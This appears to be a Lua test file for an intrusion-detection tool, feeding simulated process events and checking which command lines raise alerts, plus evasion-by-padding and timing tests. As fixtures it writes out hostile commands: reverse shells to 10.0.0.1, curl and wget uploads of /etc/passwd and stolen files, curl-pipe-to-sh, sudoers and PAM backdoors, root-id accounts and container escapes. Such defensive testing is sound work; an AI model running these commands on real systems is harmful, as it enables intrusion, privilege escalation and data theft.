    ["passwd"] = exec { "cat", "/etc/passwd" },
    ["a backup"] = exec({ "cp", "/etc/shadow", "/var/backups/" }, { under = { "cron", "rsnapshot" } }),
    ["a program of that name"] = exec { "/usr/bin/shadowconfig", "on" },
    ["memory statistics"] = exec { "cat", "/proc/meminfo" },
  },
})

script("account-commands", {
  hits = {
    ["sudoers in an editor"] = exec { "vim", "/etc/sudoers" },
    ["an account"] = { exec { "useradd", "-M", "-N", "-r", "-s", "/bin/bash", "-c", "evil_account", "evil_user" },
      severity = "medium" },
    ["one in root's group"] = { exec { "useradd", "-g", "0", "-M", "-d", "/root", "-s", "/bin/bash", "butter" },
      severity = "high" },
    ["one with root's id"] = { exec { "useradd", "-o", "-u", "0", "toor" }, severity = "high" },
    ["sudo's group"] = { exec { "usermod", "-aG", "sudo", "art" }, severity = "high" },
    ["adduser to a group"] = { exec { "adduser", "art", "sudo" }, severity = "high" },
    ["a shell for nobody"] = exec { "chsh", "--shell", "/bin/bash", "nobody" },
    ["a password of another"] = exec { "passwd", "ARTUser" },
    ["passwords from the input"] = exec { "chpasswd" },
    ["sudoers by a shell"] = { sh "echo 'art ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers", severity = "high" },
    ["sudoers in place"] = exec { "sed", "-i", "s/env_reset.*$/env_reset,timestamp_timeout=-1/", "/etc/sudoers" },
    ["a rule of PAM"] = exec { "sed", "-i", "1s,^,auth sufficient pam_succeed_if.so uid >= 0\n,g", "/etc/pam.d/su-l" },
    ["an account of FreeBSD's kind"] = exec { "pw", "useradd", "evil_user", "-s", "/usr/sbin/nologin" },
  },
  misses = {
    ["another file in an editor"] = exec { "vim", "x.c" },
    ["a package"] = exec({ "useradd", "--system", "postgres" }, { under = { "apt-get", "dpkg",
      "postgresql.postinst" } }),
    ["the defaults"] = exec { "useradd", "-D" },
    ["one's own password"] = exec { "passwd" },
    ["a state that is asked for"] = exec { "passwd", "-S", "root" },
    ["a check of sudoers"] = exec { "visudo", "-c", "-f", "/etc/sudoers" },
    ["accounts that are read"] = exec { "getent", "passwd" },
  },
})

script("setuid-bit", {
  hits = {
    ["chmod u+s"] = { exec { "chmod", "u+s", "/tmp/hello" }, severity = "high" },
    ["more bits at once"] = exec { "chmod", "u+xs", "/tmp/evilBinary" },
    ["an octal mode"] = exec { "chmod", "4755", "/tmp/x" },
    ["setgid"] = { exec { "chmod", "g+xs", "/tmp/evilBinary" }, severity = "low" },
    ["a plus alone"] = exec { "chmod", "+s", "/tmp/x" },
    ["install"] = exec { "install", "-m", "4755", "x", "/usr/local/bin/x" },
    ["capabilities"] = { exec { "setcap", "cap_setuid=ep", "/tmp/cap" }, severity = "high" },
    ["a search for such files"] = { exec { "find", "/usr/bin", "-perm", "-4000" }, severity = "low" },
  },
  misses = {
    ["another mode"] = exec { "chmod", "0755", "/tmp/x" },
    ["a symbolic mode"] = exec { "chmod", "u+rwx,g-s", "x" },
    ["a directory of a group"] = exec { "chmod", "2775", "/srv/git" },
    ["a package"] = exec({ "chmod", "4755", "/usr/bin/x" }, { under = { "apt-get", "dpkg", "x.postinst" } }),
    ["a search for other modes"] = exec { "find", "/", "-perm", "-o+w" },
    ["a file named so"] = exec { "chmod", "a+r", "usr" },
    ["searches when they are not asked for"] = { exec { "find", "/", "-perm", "-4000" }, options = { look = false } },
  },
})

local function contained(args, fields)
  local own = { container = "4f2a9c1b7d3e", cgroup = "/docker/4f2a9c1b7d3e", mnt_ns = 42 }
  for key, value in pairs(fields or {}) do
    own[key] = value
  end
  return function(host)
    host:process { pid = 1, comm = "systemd", mnt_ns = 1 }
    exec(args, own)(host)
  end
end

script("container-escape", {
  hits = {
    ["nsenter into the first process"] = { exec { "nsenter", "-t", "1", "-m", "-u", "-i", "-n", "sh" },
      severity = "high" },
    ["nsenter with long options"] = exec { "nsenter", "--target", "1", "--all" },
    ["a mount of the host's disk"] = contained { "mount", "/dev/sda1", "/mnt" },
    ["a control group's release_agent"] = sh "echo /cmd > /tmp/cgrp/release_agent",
    ["core_pattern"] = sh "echo '|/tmp/x' > /proc/sys/kernel/core_pattern",
    ["the engine's socket"] = exec { "curl", "--unix-socket", "/var/run/docker.sock", "http://localhost/images/json" },
    ["a privileged container"] = { exec { "docker", "run", "--rm", "--privileged", "alpine", "sh" },
      says = "the host's rights" },
    ["a container with the host's root"] = exec { "docker", "run", "-v", "/:/host", "alpine", "chroot", "/host" },
    ["chroot into the host"] = contained { "chroot", "/host", "sh" },
    ["a process of a container that is out"] = { contained({ "ls" }, { mnt_ns = 1 }),
      says = "sees the host's file systems" },
  },
  misses = {
    ["a process of a container"] = contained { "ls", "/" },
    ["a process of the host"] = function(host)
      host:process { pid = 1, comm = "systemd", mnt_ns = 1 }
      exec({ "ls" }, { mnt_ns = 1 })(host)
    end,
    ["nsenter of another process"] = exec { "nsenter", "-t", "1234", "-n", "ss" },
    ["an ordinary container"] = exec { "docker", "run", "--rm", "-v", "/srv/data:/data", "alpine" },
    ["containers that are listed"] = exec { "docker", "ps" },
    ["a mount on the host"] = exec { "mount", "/dev/sdb1", "/mnt" },
    ["what is left out"] = { contained({ "ls" }, { mnt_ns = 1, cgroup = "/kubepods/agent" }),
      options = { ignore = { "/agent" } } },
  },
})

local function capable(hex)
  return { answers = { status = { cap_eff = hex } }, tty = "pts/0" }
end

script("privileged-container-shell", {
  hits = {
    ["a shell with everything"] = { contained({ "bash" }, capable "000001ffffffffff"), severity = "high",
      says = "all capabilities" },
    ["one with CAP_SYS_ADMIN"] = { contained({ "sh" }, capable "00000000a82425fb"), says = "administer" },
    ["one that is told something, when asked for"] = { contained({ "sh", "-c", "x" },
      { answers = { status = { cap_eff = "000001ffffffffff" } } }), options = { all = true } },
  },
  misses = {
    ["a shell of an ordinary container"] = contained({ "bash" }, capable "00000000a80425fb"),
    ["a shell of the host"] = exec({ "bash" }, capable "000001ffffffffff"),
    ["an entry point"] = contained({ "sh", "/entrypoint.sh" },
      { answers = { status = { cap_eff = "000001ffffffffff" } } }),
    ["one that cannot be asked"] = contained({ "bash" }, { tty = "pts/0" }),
    ["another program"] = contained({ "node" }, capable "000001ffffffffff"),
  },
})

-- A process that uses this part of a core, with these sockets, for two minutes.
local function computes(exe, part, sockets, last)
  return function(host)
    local ev = exec({ exe }, { exe = exe, answers = { sockets = sockets } })(host)
    local from = host.time
    ev.answers.stat = function()
      return { utime = (host.time - from) * part, stime = 0 }
    end
    host:advance(last or 120)
  end
end

local pool = { { fd = 5, state = "established", remote_ip = "192.0.2.7", remote_port = 3333 } }

script("crypto-miner", {
  hits = {
    ["the protocol of pools"] = { exec { "./x", "-o", "stratum+tcp://pool.example:3333", "-u", "4A", "-p", "x" },
      severity = "high" },
    ["its own options"] = exec { "x", "--donate-level=1", "--cpu-priority=5" },
    ["a known miner"] = exec { "/opt/xmrig-6/xmrig" },
    ["one that computes and has a pool's port"] = { computes("/tmp/.x/kworker", 1, pool), severity = "high",
      says = "port 3333" },
    ["one with another port"] = { computes("/dev/shm/a", 3.9, { { state = "established", remote_ip = "192.0.2.7",
      remote_port = 443 } }), severity = "medium" },
    ["one that is followed for a shorter time"] = { computes("/tmp/x", 1, pool, 12), options = { seconds = 10 } },
  },
  misses = {
    ["one that pauses"] = computes("/tmp/x", 0.5, pool),
    ["one without a connection"] = computes("/tmp/x", 1, {}),
    ["one with a local connection"] = computes("/tmp/x", 1, { { state = "established", remote_ip = "127.0.0.1",
      remote_port = 3333 } }),
    ["a program of the system"] = computes("/usr/bin/ffmpeg", 2, pool),
    ["one that ends before"] = computes("/tmp/x", 1, pool, 30),
    ["a line that only names a port"] = exec { "curl", "http://h:3333/" },
    ["more than are followed"] = { computes("/tmp/x", 1, pool), options = { most = 0 } },
  },
})

script("shell-breakout", {
  hits = {
    ["awk"] = exec { "awk", 'BEGIN {system("/bin/sh &")}' },
    ["a terminal by python"] = { exec { "python3", "-c", "import pty;pty.spawn('/bin/bash')" },
      says = "gets a terminal" },
    ["find"] = exec { "find", ".", "-exec", "/bin/sh", ";", "-quit" },
    ["vim as root"] = { exec({ "vim", "-c", ":!/bin/sh" }, { euid = 0 }), severity = "high" },
    ["tar"] = exec { "tar", "cf", "/dev/null", "x", "--checkpoint=1", "--checkpoint-action=exec=/bin/sh" },
    ["perl"] = exec { "perl", "-e", 'exec "/bin/sh";' },
    ["emacs"] = exec { "emacs", "-Q", "-nw", "--eval", '(term "/bin/sh &")' },
    ["busybox"] = exec { "busybox", "sh" },
    ["a terminal by script"] = exec { "script", "-qc", "/bin/bash", "/dev/null" },
  },
  misses = {
    ["awk at work"] = exec { "awk", "{print $1}", "/etc/shells" },
    ["python that runs a command"] = exec { "python3", "-c", "import os; os.system('ls')" },
    ["find that runs a script"] = exec { "find", ".", "-exec", "sh", "-c", "echo {}", ";" },
    ["vim and a file"] = exec { "vim", "x.sh" },
    ["tar at work"] = exec { "tar", "czf", "x.tgz", "bin/sh" },
    ["busybox that runs a script"] = exec { "busybox", "sh", "/etc/init.d/x" },
  },
})

script("masquerade", {
  hits = {
    ["a program that calls itself a kernel thread"] = { exec({ "[kworker/0:1]" }, { exe = "/home/u/x", comm = "x" }),
      severity = "high" },
    ["one that renames itself"] = function(host)
      host:feed("comm", { pid = 9, id = "boot-9-9", comm = "kworker/u8:2", exe = "/usr/bin/perl", args = { "perl" },
        was = { comm = "perl" },
        parent = ancestors(host, { "bash" }) })
    end,
    ["a copy of crond"] = { exec { "/tmp/crond" }, severity = "high", says = "a service of the system" },
    ["a name with a blank at its end"] = exec({ "./init " }, { exe = "/tmp/x/init " }),
    ["a directory of dots"] = exec { "/home/u/.../sh", "-c", "echo" },
    ["a picture that runs"] = { exec { "sh", "/home/u/image.png" }, severity = "medium" },
    ["a document with two endings"] = exec { "/home/u/report.pdf.sh" },
    ["a hidden directory"] = { exec { "/var/spool/.x/run" }, severity = "low" },
  },
  misses = {
    ["a kernel thread"] = function(host)
      host:feed("comm", { pid = 9, id = "boot-9-9", comm = "kworker/u8:2", was = { comm = "kworker/u8:1" },
        parent = ancestors(host, { "kthreadd" }) })
    end,
    ["the system's cron"] = exec { "/usr/sbin/cron", "-f" },
    ["nginx and its title"] = exec({ "nginx: worker process" }, { exe = "/usr/sbin/nginx" }),
    ["a developer's program"] = exec { "/home/u/.cargo/bin/rg" },
    ["a script that reads a picture"] = exec { "sh", "convert.sh", "image.png" },
    ["a viewer"] = exec { "eog", "image.png" },
    ["hidden directories when they are not asked for"] = { exec { "/var/spool/.x/run" }, options = { hidden = false } },
  },
})

script("tunnels", {
  hits = {
    ["what goes through ssh"] = exec { "ssh", "u@h", "cat > /Users.tar.gz.enc" },
    ["a server of files"] = { exec { "python3", "-m", "http.server", "9090" }, severity = "low" },
    ["cloudflared"] = { exec { "cloudflared", "tunnel", "--url", "localhost:8080" }, severity = "medium" },
    ["a tunnel of the editor"] = exec { "code", "tunnel", "--accept-server-license-terms" },
    ["a port of the other side"] = { exec { "ssh", "-N", "-R", "9000:localhost:22", "u@h" }, severity = "low" },
    ["an upload"] = { exec { "curl", "-F", "file=@/tmp/loot", "https://example.com/" }, says = "sends a file" },
    ["a place where data is dropped"] = exec { "curl", "-s", "-X", "POST", "-d", "x", "https://paste.rs" },
    ["data in a name"] = exec { "dig", "@192.0.2.1", ("dGhpcyBpcyBhIHNlY3JldCBpbmZvCg"):rep(3) .. ".example.com" },
    ["wget that posts a file"] = exec { "wget", "--post-file=/etc/passwd", "https://example.com/" },
    ["tor"] = exec { "systemctl", "start", "tor" },
  },
  misses = {
    ["a name of an address"] = exec { "dig", "-x", "192.0.2.1", "+short", "example.com" },
    ["another module of python"] = exec { "python3", "-m", "json.tool" },
    ["ssh"] = exec { "ssh", "-i", "key", "u@h", "ls -R" } and exec { "ssh", "u@h", "uptime" },
    ["a download"] = exec { "curl", "-sSfL", "-o", "x", "https://example.com/x" },
    ["a request to an interface"] = exec { "curl", "-H", "Accept: x", "https://example.com/api" },
    ["an editor"] = exec { "code", "." },
    ["a name"] = exec { "dig", "example.com" },
    ["uploads when they are not asked for"] = { exec { "curl", "-T", "x", "https://h/" },
      options = { uploads = false } },
  },
})

script("offensive-tools", {
  hits = {
    ["a port scan of the shell"] = exec { "bash", "-c", "for p in {1..99}; do echo >/dev/tcp/10.0.0.1/$p; done" },
    ["a scan"] = { exec { "nmap", "-sS", "192.168.1.0/24" }, severity = "medium" },
    ["a script that looks for ways up"] = { exec { "bash", "/home/u/LinEnum.sh" }, severity = "high" },
    ["a password guesser"] = exec { "hydra", "-l", "root", "ssh://h" },
    ["a sniffer"] = exec { "tcpdump", "-c", "5", "-nnni", "ens33" },
    ["a picture of the screen"] = exec { "import", "-window", "root", "/tmp/x.png" },
    ["a tool that one adds"] = { exec { "mytool" }, options = { tools = { "mytool" } } },
  },
  misses = {
    ["a port check of the shell"] = exec { "bash", "-c", "for i in 1 2 3; do echo >/dev/tcp/db/5432; done" },
    ["a file of that name"] = exec { "cat", "nmap" },
    ["import of another kind"] = exec { "import", "x" },
    ["sniffers when they are not asked for"] = { exec { "tcpdump", "-i", "lo" }, options = { sniff = false } },
    ["what is left out"] = { exec { "nmap", "-p", "80", "lab" }, options = { ignore = { " lab" } } },
    ["ping"] = exec { "ping", "-c", "1", "h" },
  },
})

local function build(fields)
  return function(host)
    local shell = ancestors(host, { "bash" })
    local make = host:process { comm = fields.root or "make", args = { fields.root or "make", "-j4" },
      parent = shell, uid = 1, sid = 1 }
    for i = 1, 3 do
      local sub = host:process { comm = "make", args = { "make", "-C", "sub" }, parent = make }
      local gcc = host:process { comm = "cc1", exe = "/usr/lib/gcc/cc1", args = { "cc1", "file" .. i .. ".c" },
        parent = sub }
      host:exit(gcc, { code = 0, cpu_user = fields.cpu or i, cpu_system = 0.5, duration = 4, max_rss = 5e7 })
      host:exit(sub, { code = 0, cpu_user = 0.1, duration = 5 })
    end
    if not fields.runs_on then
      host:exit(make, { code = 0, cpu_user = 0.1, cpu_system = 0, duration = 9 })
    end
  end
end

script("build-cost", {
  hits = {
    ["a build, its submakes included"] = { build {},
      says = "7.9 s cpu in 9.0 s, 7 processes, largest 50 MB: make -j4" },
    ["what took the most"] = { build {}, says = "3.50 s  cc1 file3.c" },
    ["a build of one's own"] = { build { root = "buildit" }, options = { roots = { "buildit" } } },
  },
  misses = {
    ["a cheap build"] = { build { cpu = 0.01 }, options = { least = 5 } },
    ["a build that runs on"] = build { runs_on = true },
    ["what is no build"] = function(host)
      host:exit(host:process { comm = "cc1", args = { "cc1" }, parent = ancestors(host, { "bash" }) },
        { cpu_user = 99 })
    end,
  },
})

local function ran(args, fields)
  return function(host)
    host:exit(host:process { args = args, exe = "/usr/bin/" .. args[1], parent = ancestors(host, { fields.under
      or "bash" }) }, fields)
    host:finish()
  end
end

script("slow-commands", {
  hits = {
    ["a command of two seconds"] = { ran({ "rsync", "-a", "x", "y" }, { duration = 2, cpu_user = 0.5 }),
      says = "rsync -a x y" },
    ["its program at the end"] = { ran({ "rsync" }, { duration = 2 }), says = "2.00 s in 1, longest 2.00 s" },
    ["what is below a program"] = { ran({ "apt" }, { duration = 2, under = "dpkg" }),
      options = { under = { "dpkg" } } },
  },
  misses = {
    ["a quick one"] = ran({ "ls" }, { duration = 0.1 }),
    ["one that waits, when it is about computing"] = { ran({ "rsync" }, { duration = 9, cpu_user = 0.1 }),
      options = { cpu = 1 } },
    ["a service"] = ran({ "served" }, { duration = 1e6 }),
    ["what is left out"] = { ran({ "x" }, { duration = 9 }), options = { ignore = { "x" } } },
    ["what is not below the program"] = { ran({ "x" }, { duration = 9 }), options = { under = { "dpkg" } } },
  },
})

local function listens(port, fields)
  fields = fields or {}
  local answer = { sockets = { { fd = 3, family = "inet", type = "tcp", state = fields.state or "listen",
    local_ip = fields.ip or "0.0.0.0",
    local_port = port } } }
  return function(host)
    local exe = fields.exe or "/usr/bin/served"
    if fields.before then
      host:process { comm = "served", exe = exe, args = { exe }, answers = answer, parent = ancestors(host,
        { "init" }) }
    end
    host:advance(0.1)
    if not fields.later then
      host:exec(ancestors(host, { "init" }), { exe }, { exe = exe, answers = answer })
      host:advance(fields.ends and 0 or 1)
    else
      local process = host:process { comm = "served", exe = exe, args = { exe }, parent = ancestors(host, { "init" }) }
      host:advance(100)
      process.answers = answer
      host:advance(100)
    end
  end
end

script("new-listeners", {
  hits = {
    ["a new server"] = { listens(8080), severity = "medium", says = "port 8080" },
    ["one on the host alone"] = { listens(8080, { ip = "127.0.0.1" }), severity = "low" },
    ["one from /tmp"] = { listens(8080, { exe = "/tmp/x" }), severity = "high" },
    ["one that begins later"] = listens(8080, { later = true }),
    ["a port of a range, when asked for"] = { listens(40000), options = { ephemeral = true } },
  },
  misses = {
    ["what listened before"] = listens(80, { before = true }),
    ["a connection"] = listens(80, { state = "established" }),
    ["a port of a range"] = listens(40000),
    ["what is left out"] = { listens(80), options = { ignore = { "served" } } },
  },
})

local function flags(words)
  local set = {}
  for word in words:gmatch "%a+" do
    set[word] = true
  end
  return set
end

-- What /proc and kill say of a process; `then_` is done after the first look.
local function census(words, then_)
  return function(host)
    local process = host:process { comm = "x", args = { "x" }, parent = ancestors(host, { "bash" }) }
    host.census_of[process.pid] = flags(words)
    host:advance(31)
    if then_ then
      then_(host, process)
    end
    host:advance(5)
  end
end

-- The same of a pid of which no event told: `below` the largest that is known.
local function unknown(words, below, then_)
  return function(host)
    local largest = host:process { pid = 20000, comm = "x", args = { "x" }, parent = ancestors(host, { "bash" }) }
    host.census_of[largest.pid - below] = flags(words)
    host:advance(2)
    if then_ then
      then_(host, largest.pid - below)
    end
    host:advance(40)
  end
end

local function ends(host, process)
  host.census_of[process.pid] = nil
  host:exit(process)
end

local function is_another_by_now(host, process)
  host:exit(process)
  host:process { pid = process.pid, id = "boot-another", comm = "y", args = { "y" } }
end

local function a_crowd(host)
  for i = 1, 2500 do
    host:process { pid = 30000 + i, comm = "y", args = { "y" } }
  end
  census("lives open")(host)
  local hidden = host:process { pid = 40000, comm = "last", args = { "last" } }
  host.census_of[hidden.pid] = flags "lives"
  host:advance(40)
end

script("hidden-process", {
  hits = {
    ["a process that /proc does not list"] = { census "lives open", severity = "critical", says = "lives, but /proc/" },
    ["one that cannot be opened"] = { census "lives listed", severity = "critical" },
    ["one that is nowhere"] = census "lives",
    ["the last of a crowd"] = { a_crowd, says = "pid 40000 lives" },
    ["a pid that no event told of"] = { unknown("lives open", 19000), severity = "critical", says = "pid 1000 lives" },
    ["one in the last portion"] = { unknown("lives", 1), says = "pid 19999 lives" },
    ["a mount over a process"] = { exec { "mount", "-B", "/proc/1", "/proc/4711" }, severity = "high" },
    ["hidepid"] = exec { "mount", "-o", "remount,rw,hidepid=2", "/proc" },
    ["a signal of rootkits"] = exec { "kill", "-31", "4711" },
  },
  misses = {
    ["one that is shown"] = census "lives listed open",
    ["one whose end is about to be told"] = census "",
    ["one that ended meanwhile"] = census("lives", ends),
    ["one whose pid is another's meanwhile"] = census("lives", is_another_by_now),
    ["a pid that is a thread's meanwhile"] = census "lives open thread",
    ["a question without an answer"] = function(host)
      host.census_fails = "no answer in time"
      census "lives"(host)
    end,
    ["a thread that no event told of"] = unknown("lives open thread", 5),
    ["a process that is listed and that no event told of"] = unknown("lives open listed", 5),
    ["a pid that ended meanwhile"] = unknown("lives", 19999, function(host, pid) host.census_of[pid] = nil end),
    ["pids when they are not asked for"] = { unknown("lives", 5), options = { sweep = 0 } },
    ["another mount"] = exec { "mount", "-B", "/srv", "/proc-x/1" },
    ["another signal"] = exec { "kill", "-9", "31" },
    ["signals when they are not asked for"] = { exec { "kill", "-31", "1" }, options = { signals = false } },
  },
})

local function first_and_then(first, days, second, fields)
  return function(host)
    exec({ first })(host)
    host:advance(days * 86400)
    exec({ second }, fields)(host)
  end
end

script("first-seen", {
  hits = {
    ["a new program after a week"] = { first_and_then("ls", 8, "nmap"), severity = "low", says = "/usr/bin/nmap" },
    ["one at once when there is hardly anything to learn"] = { first_and_then("ls", 1, "nmap"),
      options = { learn = "1ms" } },
  },
  misses = {
    ["what is new while it learns"] = first_and_then("ls", 1, "nmap"),
    ["what was there before"] = first_and_then("ls", 8, "ls"),
    ["a package's"] = first_and_then("ls", 8, "new", { under = { "apt-get", "dpkg" } }),
    ["a container's"] = first_and_then("ls", 8, "new", { container = "4f2a9c1b7d3e" }),
    ["what is left out"] = { first_and_then("ls", 8, "new"), options = { ignore = { "/usr/bin/new" } } },
  },
})

script("timestomp", {
  hits = {
    ["a time of long ago"] = { exec { "touch", "-m", "-t", "197001010000.00", "/tmp/x" }, severity = "low" },
    ["the times of another file"] = exec { "touch", "-acmr", "/bin/sh", "/tmp/x" },
    ["a date in words"] = exec { "touch", "--date=2001-01-01", "x" },
    ["the clock"] = { exec { "date", "010100001971" }, says = "sets the clock" },
  },
  misses = {
    ["touch"] = exec { "touch", "x", "d", "t" },
    ["a build"] = exec({ "touch", "-r", "a", "b" }, { under = { "bash", "make", "sh" } }),
    ["the time that is asked for"] = exec { "date", "+%s" },
    ["another time that is shown"] = exec { "date", "-d", "yesterday" },
  },
})

-- --- all of them ------------------------------------------------------------------------------------

local scripts_table = require "scripts_table"

-- What is put before it does not hide what a command line is about: `PAD` stands where there is room for it.
local padded = {
  { "reverse-shell", "bash", "-c", "PADbash -i >& /dev/tcp/10.0.0.1/4242 0>&1" },
  { "reverse-shell", "sh", "-c", "PADmkfifo /tmp/f; PAD cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f" },
  { "reverse-shell", "python3", "-c", 'PADimport socket,os;os.dup2(1,0);os.system("/bin/sh")' },
  { "reverse-shell", "socat", "-lp", "PAD", "TCP:10.0.0.1:4444", "EXEC:'  bash -li'" },
  { "tunnels", "ssh", "host", "PAD cat > x" },
  { "tunnels", "curl", "-H", "PAD", "-F", "f=@/etc/hosts", "http://x/" },
  { "container-escape", "docker", "run", "-e", "PAD", "--privileged", "x" },
  { "container-escape", "nsenter", "PAD", "-t", "1", "sh" },
  { "container-escape", "mount", "-t", "cgroup", "-o", "PAD,rdma", "cgroup", "/mnt" },
  { "container-escape", "sh", "-c", "PAD echo /x > /sys/fs/cgroup/rdma/release_agent" },
  { "defence-off", "iptables", "-m", "comment", "--comment", "PAD", "-F" },
  { "defence-off", "sysctl", "PAD", "kernel.randomize_va_space=0" },
  { "account-commands", "useradd", "-c", "PAD", "-o", "-u", "0", "x", severity = "high" },
  { "credential-files", "sed", "-e", "PAD", "p", "/proc/1234/environ" },
  { "credential-files", "sh", "-c", "PAD while read l; do :; done < /etc/shadow" },
  { "offensive-tools", "bash", "-c", "PADfor p in 1 2; do echo > /dev/tcp/host/$p; done" },
  { "setuid-bit", "find", "PAD", "-perm", "-4000" },
  { "shell-breakout", "vim", "PAD", "-c", ":!PAD/bin/sh" },
  { "shell-breakout", "tar", "PAD", "--checkpoint-action=exec=PAD/bin/sh" },
  { "shell-breakout", "awk", "PADBEGIN {system(  \"/bin/sh\")}" },
  { "log-wiping", "bash", "-c", "PADhistory -c" },
  { "cron-persistence", "sh", "-c", "PADecho x > /etc/cron.d/x" },
  { "ld-preload", "sh", "-c", "PADLD_PRELOAD=/tmp/x.so ls" },
  { "download-and-execute", "sh", "-c", "PADcurl http://x/a | sh" },
}
local paddings = { blanks = (" "):rep(20000), newlines = ("\n"):rep(20000), tabs = (" \t"):rep(10000),
  ["a long word"] = ":" .. ("x"):rep(20000) .. "; ", ["words that say nothing"] = ": " .. ("y "):rep(1000) .. "; " }

describe("padding hides nothing:", function()
  for _, case in ipairs(padded) do
    for what, padding in pairs(paddings) do
      it(("%s, %s, %s"):format(case[1], table.concat(case, " ", 2), what), function()
        local args = {}
        for i = 2, #case do
          args[i - 1] = case[i]:gsub("PAD", padding)
        end
        local host = script_host.new():load("scripts/" .. case[1] .. ".lua")
        exec(args)(host)
        assert.is_true(#host.alerts > 0)
        assert.equal(case.severity or host.alerts[1].severity, host.alerts[1].severity)
      end)
    end
  end
end)

-- Who starts a process chooses its text. In the sandbox a call has 50 ms; a pattern whose time grows with a power of
-- the length takes seconds for this.
local programs = { "sh", "nc", "python3", "find", "vim", "tar", "docker", "cat", "sed", "chmod", "useradd", "script",
  "dig", "env" }
local pieces = { "-exec  ", "system  '", "a/", "//", "exec:", "|  ", "/dev/tcp/", "-perm -", "-ccc", "$(", "> a ",
  "\\", "-qc /", "." }

describe("a long text that is made for it", function()
  for _, name in ipairs(scripts_table.names()) do
    it("takes no long time: " .. name, function()
      local host = script_host.new():load("scripts/" .. name .. ".lua")
      for _, program in ipairs(programs) do
        for _, piece in ipairs(pieces) do
          local text = piece:rep(30000 / #piece)
          local from = os.clock()
          exec({ program, "-c", text, text }, { container = "c", under = { "nginx" } })(host)
          assert.is_true(os.clock() - from < 0.5, program .. " " .. piece)
        end
      end
    end)
  end
end)

-- As much as an event holds, in all the ways that it can be full of one thing.
local function filled(program)
  local full, rows = 64 * 1024, {}
  local fillings = { blanks = " ", letters = "a", slashes = "/", dots = ".", ["double quotes"] = '"', quotes = "'",
    backslashes = "\\", newlines = "\n", bytes = "\1\27\127\128\255%[", hyphens = "-", signs = "<>|;",
    dollars = "$", commas = "a,", colons = "/:", escapes = "\\a", commands = "a;", files = ">a ",
    shells = " sh", networks = "/dev/tcp/" }
  for what, piece in pairs(fillings) do
    local text = piece:rep(full / #piece)
    rows["an argument of " .. what] = { program, text }
    rows["an argument behind -c of " .. what] = { program, "-c", text }
    rows["a variable of " .. what] = { program, "LD_PRELOAD=" .. text }
    rows["a name of " .. what] = { text:sub(1, 20000), "x" }
  end
  for _, argument in ipairs { "", "a", "-", "-c", "--", "-x", "/", "sh", "stop" } do
    rows["30,000 arguments " .. argument] = stuffed(program, argument, 30000)
  end
  local different = { program }
  for i = 1, 10000 do
    different[i + 1] = ("-%c%c%c"):format(97 + i % 26, 97 + i / 26 % 26, 97 + i / 676 % 26)
  end
  rows["10,000 different options"] = different
  rows["no arguments"] = {}
  rows["an empty argument"] = { "" }
  return rows
end

-- What this much of plain interpreted work takes here and now: on a machine of today a tenth of what a call may take.
local function calibrate()
  local from, sum = os.clock(), 0
  for i = 1, 1000000 do
    sum = sum + i % 7
  end
  return os.clock() - from
end

describe("events that are as full as they can be", function()
  local all, measure = {}, math.huge
  setup(function()
    for _, program in ipairs(programs) do
      all[program] = filled(program)
    end
    for _ = 1, 5 do
      measure = math.min(measure, calibrate())
    end
  end)

  -- The fastest of three, as others may run meanwhile.
  local function took(host, parent, program, args)
    local best = math.huge
    for _ = 1, 3 do
      local exe = args[1] ~= program and "/usr/bin/x" or nil
      local from = os.clock()
      host:exec(parent, args, { exe = exe, comm = program, container = "c" })
      best = math.min(best, os.clock() - from)
      if best < measure then
        break
      end
    end
    return best
  end

  for _, name in ipairs(scripts_table.names()) do
    it("are no error and take no long time: " .. name, function()
      local host = script_host.new():load("scripts/" .. name .. ".lua")
      local parent = ancestors(host, { "systemd", "sshd", "bash" })
      for _, program in ipairs(programs) do
        for what, args in pairs(all[program]) do
          local best = took(host, parent, program, args)
          assert.is_true(best < 6 * measure, ("%s, %s: %.1f times"):format(program, what, best / measure))
        end
      end
    end)
  end
  teardown(function() all = nil end)
end)

describe("each of scripts/", function()
  for _, name in ipairs(scripts_table.names()) do
    it("has claims here, hits and misses: " .. name, function()
      local claims = claimed[name]
      assert.is_truthy(claims and next(claims.hits) and next(claims.misses))
    end)
    it("says at its head what it is for, why, and what it does not see: " .. name, function()
      local head, text = scripts_table.read(name)
      for _, part in ipairs { "what", "Why", "ATT&CK", "False positives", "Not seen", "Options" } do
        assert.is_truthy(head[part], part)
      end
      for option in text:gmatch 'mw%.option%("([^"]+)"' do
        assert.is_truthy((head.Options .. ";"):find(option, 1, true), "the option " .. option)
      end
      for technique in head["ATT&CK"]:gmatch "T%d[%d.]+" do
        assert.is_truthy(text:find("attack." .. technique:lower(), 1, true), "the tag " .. technique)
      end
    end)
  end
  it("is in the README's table", function()
    local file = assert(io.open "scripts/README.md")
    local readme = file:read "*a"
    file:close()
    assert.is_truthy(readme:find(scripts_table.text(), 1, true), "see tests/lua/scripts_table.lua")
  end)
end)
